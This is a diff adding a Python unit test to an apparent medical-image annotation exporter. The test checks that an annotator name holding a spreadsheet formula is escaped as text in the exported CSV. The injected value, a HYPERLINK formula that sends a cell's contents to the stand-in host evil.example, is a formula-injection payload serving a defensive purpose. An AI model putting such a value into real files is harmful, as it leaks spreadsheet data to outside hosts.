@@ -231,3 +231,17 @@ def test_an_upload_whose_copy_was_kept_is_exported_from_it(saved, tmp_path):
     report = export_busi(saved["data"], saved["worklist"], tmp_path / "again")
     reasons = {where.rsplit("/", 1)[-1]: why for where, why in report.skipped}
     assert "damaged" in reasons[sha]
+
+
+def test_a_name_a_spreadsheet_would_run_is_written_as_text(saved, tmp_path):
+    worklist = saved["worklist"]
+    data = (worklist / "d.png").read_bytes()
+    store = AnnotationStore(saved["data"])
+    _save(store, data, label="benign", mask=saved["lesion"], worklist_path="d.png",
+          annotator='=HYPERLINK("http://evil.example/?"&A2,"open")', day=3)
+    out = tmp_path / "out"
+    export_busi(saved["data"], worklist, out)
+    with open(out / "index.csv", newline="", encoding="utf-8") as handle:
+        rows = {r["worklist_path"]: r for r in csv.DictReader(handle)}
+    assert rows["d.png"]["annotator"] == '\'=HYPERLINK("http://evil.example/?"&A2,"open")'
+    assert rows["study1/b.png"]["annotator"] == "Dr Ada"
